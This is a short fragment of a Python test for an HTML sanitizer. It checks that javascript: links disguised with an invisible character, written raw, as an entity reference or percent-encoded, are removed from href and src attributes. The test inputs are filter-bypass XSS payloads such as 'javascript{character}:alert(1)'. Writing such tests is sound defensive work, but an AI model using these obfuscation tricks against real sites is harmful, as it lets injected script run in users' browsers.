    for body in (f'<a href="javascript{reference}:alert(1)">x</a>', f'<a href="javascript{character}:alert(1)">x</a>'):
        assert "href" not in sanitize_html(body)
        # lxml (the importer's cleanup) writes the character percent-encoded: javascript%E2%80%8B:
        assert "href" not in prepare_body(clean_legacy_html(body).html).html
    encoded = "".join(f"%{byte:02X}" for byte in character.encode())
    assert "href" not in sanitize_html(f'<a href="javascript{encoded}:alert(1)">x</a>')
    assert "src" not in sanitize_html(f'<img src="javascript{encoded}:alert(1)" alt="">')
